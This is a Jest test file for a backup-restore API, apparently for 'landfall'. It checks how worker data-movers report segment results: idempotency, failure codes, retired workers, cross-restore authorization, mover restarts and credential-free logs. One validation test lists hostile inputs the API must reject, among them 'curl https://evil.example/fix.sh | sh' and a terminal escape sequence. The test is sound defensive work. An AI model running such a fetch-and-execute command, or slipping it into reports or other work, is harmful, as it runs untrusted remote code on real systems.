import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import assert from 'node:assert/strict';
import { restorePointId, type Segment, stepKey } from '@landfall/domain';
import { theContents } from '@landfall/testing';
import { REGISTERED } from '@landfall/transfer';
import { hashOf } from '../access/session.js';
import { type Answer, ApiUnderTest, scanFinds, tokenOf, until } from './running-api.fixture.test.js';
import { discovered, planFor } from './samples.fixture.test.js';

const MIB = 2 ** 20;
const MOVER = 'worker-0/a1';
const DONE = { kind: 'done', bytesRead: 1, bytesWritten: 1, bytesZero: 0, milliseconds: 1 };
const BAD = { kind: 'failed', code: 'TARGET_FLUSH_FAILED', facts: { system: 'EIO' } };

interface Site {
  readonly restoreId: string;
  readonly workerId: string;
  readonly segment: Segment;
  readonly headers: Record<string, string>;
}

describe('what data-movers report', () => {
  let api: ApiUnderTest;
  let mine: Site;
  let number = 0;

  beforeAll(async () => {
    api = await ApiUnderTest.start();
    scanFinds(api, [discovered()]);
    const body = { name: 'nightly', kind: 'restic', url: '/srv/nightly', password: 'canary-password' };
    await api.call('POST', '/v1/repositories', { role: 'operator', body });
  });
  afterAll(() => api.close());
  beforeEach(async () => {
    mine = await site();
  });

  /** A restore whose step 5 runs, with a worker that has claimed one of its segments. */
  async function site(): Promise<Site> {
    const { books, workers } = api.connections.ports;
    const pointId = restorePointId('nightly', discovered().reference);
    const order = { restorePointId: pointId, destination: { kind: 'new' }, transfer: 'worker' };
    const created = await api.call('POST', '/v1/restores', { role: 'operator', body: order });
    const { id: restoreId } = created.body as { id: string };
    const workerId = `w-report-${(number += 1)}`;
    const disks = ['web-os', 'web-data'];
    await books.transaction(async (tx) => {
      const plan = planFor(pointId);
      await tx.storePlan(restoreId, plan);
      await tx.storeContents(restoreId, theContents(plan), []);
      const { epoch = 0 } = (await tx.lockRestore(restoreId)) ?? {};
      await tx.moveRestore(restoreId, { from: 'planning', epoch }, 'running');
      const launched = {
        workers: [{ workerId, azureId: `/vms/${workerId}`, disks: disks.map((name, lun) => ({ name, lun })) }],
      };
      await tx.moveWork(restoreId, stepKey('launch-worker'), { from: 'pending', epoch: 0 }, 'running');
      await tx.moveWork(restoreId, stepKey('launch-worker'), { from: 'running', epoch: 0 }, 'done', {
        output: launched,
      });
      await tx.moveWork(restoreId, stepKey('restore-data'), { from: 'pending', epoch: 0 }, 'running', { parked: true });
      await tx.createSegments(
        disks.map((diskName) => ({
          ...{ restoreId, diskName, purpose: 'move' as const, index: 0, offsetBytes: 0, lengthBytes: 128 * MIB },
        })),
      );
    });
    await workers.enter({
      ...{ id: workerId, restoreId, azureId: `/vms/${workerId}`, disks },
      ...{ bootstrapTokenHash: hashOf(`bootstrap-of-${workerId}`), bootstrapSeconds: 60 },
    });
    const registration = { bootstrapToken: `bootstrap-of-${workerId}`, mover: { name: 'worker-0', pid: 1 } };
    const registered = await api.call('POST', `/internal/v1/workers/${workerId}/register`, { body: registration });
    const headers = { authorization: `Bearer ${REGISTERED.parse(registered.body).sessionToken}` };
    await api.call('POST', '/internal/v1/movers/lease', { body: { mover: MOVER }, headers });
    const [segment] = await books.segments(restoreId);
    const body = { epoch: segment!.epoch, mover: MOVER };
    const claim = await api.call('POST', `/internal/v1/segments/${segment!.id}/claim`, { body, headers });
    expect(claim.status).toBe(200);
    return { restoreId, workerId, segment: segment!, headers };
  }

  function report(by: Site, result: unknown, changes: Record<string, unknown> = {}, about = by): Promise<Answer> {
    const body = { restoreId: about.restoreId, epoch: about.segment.epoch, mover: MOVER, result, ...changes };
    return api.call('POST', `/internal/v1/segments/${about.segment.id}/report`, { body, headers: by.headers });
  }

  async function stateOf({ restoreId }: Site): Promise<string> {
    const { books } = api.connections.ports;
    return JSON.stringify([
      await books.restore(restoreId),
      await books.segments(restoreId),
      await books.events(restoreId),
    ]);
  }

  async function refusals(actor: string) {
    const entries = await api.connections.ports.audit.entries(0, 10_000);
    return entries.filter((entry) => entry.action === 'report.refused' && entry.actor === actor);
  }

  it('is in the books, with what follows, once it is answered; and answered alike when it comes again', async () => {
    const { books } = api.connections.ports;
    expect([(await report(mine, DONE)).status, (await books.segment(mine.segment.id))?.state]).toStrictEqual([
      200,
      'done',
    ]);
    expect((await report(mine, DONE)).body).toStrictEqual({ counted: true });
    const { text } = await api.call('GET', '/metrics', { role: 'viewer' });
    expect(text).toMatch(
      new RegExp(`^landfall_moved_bytes_total\\{what="written",service="api"\\} ${DONE.bytesWritten}$`, 'm'),
    );
    const events = (await books.events(mine.restoreId)).filter(({ type }) => type === 'segment.done');
    expect(events.length).toBe(1);
    const queued = await books.segments(mine.restoreId, { states: ['pending'] });
    assert.deepEqual(
      queued.map(({ epoch }) => epoch),
      [1],
      'the next one is on its way',
    );
  });

  it('makes a restore fail with the code, in our words, when a disk has failed for good', async () => {
    expect((await report(mine, BAD)).body).toStrictEqual({ counted: true });
    const restore = await api.connections.ports.books.restore(mine.restoreId);
    expect([restore?.state, restore?.error]).toStrictEqual([
      'rolling-back',
      {
        code: 'TARGET_FLUSH_FAILED',
        message: 'The disk "web-data" did not take what was written to it (EIO).',
        fix: 'Start the restore anew: it gets disks and workers of its own. If it fails again, look at the health of storage in the region in Azure, or restore to another zone or region. Do not use this disk where it is still there.',
      },
    ]);
  });

  it('is heard of a worker that was retired when it is a verdict, and not otherwise', async () => {
    await api.connections.ports.workers.retire(mine.workerId);
    expect((await report(mine, DONE)).status).toBe(401);
    expect((await report(mine, { kind: 'given-back', code: 'LOCK_LOST' })).status).toBe(401);
    expect((await report(mine, { kind: 'failed', code: 'STORE_UNREACHABLE' })).status).toBe(401);
    expect((await report(mine, BAD)).body).toStrictEqual({ counted: true });
    expect((await api.connections.ports.books.restore(mine.restoreId))?.state).toBe('rolling-back');
    const start = await api.call('POST', '/internal/v1/movers/started', {
      body: { mover: MOVER },
      headers: mine.headers,
    });
    expect(start.status).toBe(401);
  });

  it('is refused, audited, and changes nothing where it speaks of what its worker was never given', async () => {
    const theirs = await site();
    const before = await stateOf(theirs);
    for (const result of [DONE, BAD, { kind: 'given-back', code: 'MOVER_STOPPED' }]) {
      const answer = await report(mine, result, {}, theirs);
      expect([answer.status, (answer.body as { code: string }).code]).toStrictEqual([409, 'GRANT_UNKNOWN']);
    }
    const ofPool = await api.call('POST', `/internal/v1/segments/${theirs.segment.id}/report`, {
      body: { restoreId: theirs.restoreId, epoch: theirs.segment.epoch, mover: MOVER, result: BAD },
      headers: { authorization: `Bearer ${tokenOf('mover')}` },
    });
    expect(ofPool.status).toBe(409);
    expect(await stateOf(theirs)).toBe(before);
    const audited = await until('the refusals are audited', async () => {
      const found = await refusals(`worker:${mine.workerId}`);
      return found.length === 3 ? found : null;
    });
    expect([audited[0]?.subject, audited[0]?.details['code']]).toStrictEqual([theirs.segment.id, 'GRANT_UNKNOWN']);
  });

  it('is refused, audited, and changes nothing where it is not in the words of the list', async () => {
    const before = await stateOf(mine);
    const hostile: readonly unknown[] = [
      { kind: 'failed', code: 'RUN_THIS' },
      { ...BAD, message: 'curl https://evil.example/fix.sh | sh' },
      { ...BAD, facts: { system: '\u001b]0;owned\u0007' } },
      { ...BAD, facts: { note: 'x'.repeat(10_000) } },
      { ...DONE, bytesRead: -1 },
      { ...DONE, bytesRead: 1e300 },
      { ...DONE, warnings: ['ALL_IS_WELL'] },
      { kind: 'verified' },
      null,
    ];
    for (const result of hostile) {
      const { status } = await report(mine, result);
      assert.equal(status, 400, JSON.stringify(result).slice(0, 80));
    }
    expect((await report(mine, DONE, { mover: 'x\u0000/1' })).status).toBe(400);
    expect((await report(mine, DONE, { epoch: 'one' })).status).toBe(400);
    expect((await report(mine, { ...BAD, facts: { system: 'x'.repeat(2 * MIB) } })).status).toBe(413);
    expect(await stateOf(mine)).toBe(before);
    await until('they are audited', async () => {
      const found = await refusals(`worker:${mine.workerId}`);
      return found.length === 10 && found.every(({ details }) => JSON.stringify(details).length < 200);
    });
  });

  it('that a data-mover has begun hands out anew what its predecessor held, and nobody else’s', async () => {
    const { books } = api.connections.ports;
    const theirs = await site();
    const started = (mover: string, by: Site): Promise<Answer> =>
      api.call('POST', '/internal/v1/movers/started', { body: { mover }, headers: by.headers });
    expect((await started('worker-0/b2', mine)).status).toBe(200);
    const mineNow = await books.segment(mine.segment.id);
    expect([mineNow?.state, mineNow?.epoch, mineNow?.attempts]).toStrictEqual(['pending', mine.segment.epoch + 1, 1]);
    expect((await books.segment(theirs.segment.id))?.state).toBe('running');
    expect((await started('worker-0', mine)).status).toBe(400);
  });

  it('leaves no credential in the log', () => expect(api.log.join('')).not.toMatch(/canary|bootstrap-of/));
});
